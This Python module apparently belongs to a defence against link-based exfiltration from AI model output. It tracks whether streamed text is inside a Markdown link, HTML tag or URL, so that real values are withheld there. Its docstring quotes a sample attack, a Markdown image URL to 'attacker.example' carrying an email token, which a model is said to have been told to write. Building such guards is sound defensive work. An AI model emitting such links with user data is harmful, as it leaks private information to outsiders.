"""Telling prose from the inside of a link, so that no value is put where a renderer would send it.

Links are Markdown link and image targets, URLs, HTML attributes, mail and telephone links. A model
that was told to write `![](https://attacker.example/?q=EMAIL_...)` must get the token out, never the
value. Renderers disagree on where a link ends, and some are sloppy, so several readings of a text are
followed at once, and its end counts as inside a link while one of them says so. What was restored is
followed like the rest, since it is rendered like the rest. When in doubt the token stays, and is counted.

Readings, and what begins one:

    TARGET      `](`           a Markdown destination and title: to the `)`, over any number of lines
    DEFINITION  `]:`           a Markdown link definition, also with its destination on the next line
    TAG         `<` letter     HTML, as its tokenizer reads it: only `>` outside of quotes ends a tag
    URL         `//`, `http:`, `mailto:`, `www.`, `host.tld/`, `10.0.0.1/`   to the next white space
    STRING      a JSON string that is a URL, see `json_links.py`             to its end

White space is what browsers take for it: others (U+00A0, U+3000) are part of a URL. So is `">` behind one,
since Markdown reads it so where the tag around it is none.

Not recognised: host names without scheme, `www.`, path, port, query or fragment. Sources: CommonMark
0.31 (links, autolinks, raw HTML), GFM (extended autolinks), WHATWG HTML 13.2.5 (tokenization), URL 4.4.
"""

import re
from collections.abc import Mapping
from functools import lru_cache
from types import MappingProxyType
from typing import Final

_SCHEMES: Final = (
    *("blob", "callto", "facetime", "file", "ftp", "ftps", "geo", "git", "http", "https", "intent", "javascript"),
    *("magnet", "mailto", "sip", "sips", "skype", "sms", "ssh", "tel", "tg", "vbscript", "ws", "wss", "xmpp"),
)
_SCHEME_BEFORE: Final = "|".join(f"(?<={scheme}:)" for scheme in _SCHEMES)
# All begin with one of a few characters, so that prose is skipped at native speed, and look back from there.
_BEGINNINGS: Final = re.compile(
    r"[\]<:/.0-9](?:(?<=\])(?:(?P<target>\()|(?P<definition>:))|(?<=<)(?P<tag>(?=[A-Za-z]))"
    # The slashes may be escaped: JSON in prose.
    rf"|(?P<url>(?<=/)\\?/|(?<=:)(?i:{_SCHEME_BEFORE}|(?<=data:)(?=[a-z]))"
    r"|(?<=[wW]{3}\.)|(?<=\.)(?:[^\W\d_]{2,24}|[xX][nN]--[A-Za-z0-9-]{2,59})[/\\?#:]"
    r"|(?<=[0-9])[0-9]{0,2}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}[/\\?#:]))"
)
_LONGEST_BEGINNING: Final = 66
"""Characters kept to recognise a beginning that is cut between two pieces; the longest has 65."""

_ELSE: Final = "else"
_ENDED: Final = ""
_SPACE: Final = " "
_LINE: Final = "\n"

_Steps = Mapping[str, str]


def _angle(name: str, behind: str, cut: str) -> dict[str, _Steps]:
    """A destination in angle brackets, which may hold spaces: what follows it, and a line's end in it."""
    escaped = f"{name} escaped"
    return {
        name: {">": behind, _LINE: cut, "\\": escaped},
        # The backslash takes one character; of several that make one symbol here the rest change nothing.
        escaped: {_LINE: cut, _ELSE: name},
    }


_READINGS: Final[Mapping[str, _Steps]] = MappingProxyType(
    {
        "url": {_SPACE: _ENDED, _LINE: _ENDED},
        "string": {},
        "target": {_SPACE: "target", _LINE: "target", "<": "angle", ")": "url", _ELSE: "target text"},
        # Parentheses may nest: what is glued to the closing one still counts.
        "target text": {")": "url"},
        **_angle("angle", behind="target text", cut="target text"),
        "definition": {_SPACE: "definition", _LINE: "definition line", "<": "brackets", _ELSE: "url"},
        "definition line": {_SPACE: "definition line", _LINE: _ENDED, "<": "brackets", _ELSE: "url"},
        **_angle("brackets", behind="url", cut=_ENDED),
        "tag": {_SPACE: "attribute", _LINE: "attribute", "/": "attribute", ">": _ENDED},
        "attribute": {_SPACE: "attribute", _LINE: "attribute", "/": "attribute", ">": _ENDED, _ELSE: "name"},
        "name": {_SPACE: "named", _LINE: "named", "/": "attribute", "=": "value", ">": _ENDED},
        "named": {_SPACE: "named", _LINE: "named", "/": "attribute", "=": "value", ">": _ENDED, _ELSE: "name"},
        "value": {_SPACE: "value", _LINE: "value", '"': "double", "'": "single", ">": _ENDED, _ELSE: "unquoted"},
        "unquoted": {_SPACE: "attribute", _LINE: "attribute", ">": _ENDED},
        "double": {'"': "attribute"},
        "single": {"'": "attribute"},
    }
)
"""By reading and symbol: the reading that follows. Without an entry, nor one for all else, it stays."""

_SYMBOLS: Final = re.compile(r"""[ \t\r\f]+|[\n/>="')<\\]|[^ \t\r\f\n/>="')<\\]+""")
_SYMBOL_OF: Final = dict.fromkeys(" \t\r\f", _SPACE) | {one: one for one in "\n/>=\"')<\\"}

_NOT_A_LINK_YET: Final = frozenset({"tag"})


class LinkState:
    """Follows one text piece by piece and knows whether its end is inside a link."""

    def __init__(self) -> None:
        self._readings: frozenset[str] = frozenset()
        self._carry = ""
        self._at_line_start = False

    @property
    def inside(self) -> bool:
        """Whether what follows the text so far would be part of a link."""
        return not self._readings <= _NOT_A_LINK_YET

    def follow(self, text: str) -> None:
        """Take the next piece. Any chunking leads to the same state."""
        read = len(self._carry)
        text = self._carry + text
        searched = 0
        for found in _BEGINNINGS.finditer(text):
            searched = found.end()
            self._read(text[read:searched])
            read = max(read, searched)
            self.begin(str(found.lastgroup))
        self._read(text[read:])
        self._carry = text[max(searched, len(text) - _LONGEST_BEGINNING) :]

    def begin(self, reading: str) -> None:
        """Follow one more reading from here on."""
        self._readings |= {reading}
        self._at_line_start = False

    def end_string(self) -> None:
        """A quote ends a JSON string, or is one in HTML that is no JSON: both are followed."""
        apart = self._readings - {"url", "string"}
        self._readings = apart | _stepped(apart, '"')
        self._carry = ""
        self._at_line_start = False

    def _read(self, text: str) -> None:
        if not self._readings:
            return
        for symbol in _SYMBOLS.findall(text):
            kind = _SYMBOL_OF.get(symbol[0], _ELSE)
            # At the start of a line `>` is a mark of quotation, which Markdown takes out before HTML is read.
            if kind == ">" and self._at_line_start:
                kind = _SPACE
            self._at_line_start = kind == _LINE or "\r" in symbol or (kind == _SPACE and self._at_line_start)
            self._readings = _stepped(self._readings, kind)


@lru_cache(maxsize=4096)
def _stepped(readings: frozenset[str], symbol: str) -> frozenset[str]:
    found = (_READINGS[one].get(symbol, _READINGS[one].get(_ELSE, one)) for one in readings)
    return frozenset(one for one in found if one != _ENDED)


_URL_TEXT: Final = re.compile(
    rf"(?:[a-z][a-z0-9+.-]{{0,30}}:)?[\\/]{{2}}|www\.|(?:{'|'.join(_SCHEMES)}|data):", re.IGNORECASE
)
_TAKEN_OUT: Final = str.maketrans("", "", "\t\r\n")
_CONTROLS: Final = "".join(map(chr, range(33)))
URL_TEXT_DECIDED: Final = 200
"""Characters by which a text either begins like a URL or does not. Programs that are given more white space
in front of one than this are not known."""


def is_url(text: str) -> bool:
    """Whether a whole text (an argument of a tool) is a URL rather than prose that may hold one.

    Read as a browser does: without control characters and spaces in front, or tabs and line ends anywhere.
    """
    begins = text[:URL_TEXT_DECIDED].lstrip(_CONTROLS).translate(_TAKEN_OUT)
    return _URL_TEXT.match(begins) is not None


HOST_LABEL: Final = 63
"""Characters of the longest label of a host name (RFC 1035)."""
_GOES_ON: Final = re.compile(rf"[A-Za-z0-9_-]{{0,{HOST_LABEL}}}(?:@|%40|\.[^\W_])")
_MAY_GO_ON: Final = re.compile(rf"[A-Za-z0-9_-]{{0,{HOST_LABEL}}}(?:\.|%|%4)?\Z")


def goes_on_as_host(text: str, end: int) -> bool:
    """Whether what ends there is part of the left part of a mail address or a host name."""
    return _GOES_ON.match(text, end) is not None


def may_go_on_as_host(text: str, end: int) -> bool:
    """Whether it depends on text that is still to come."""
    return _MAY_GO_ON.match(text, end) is not None
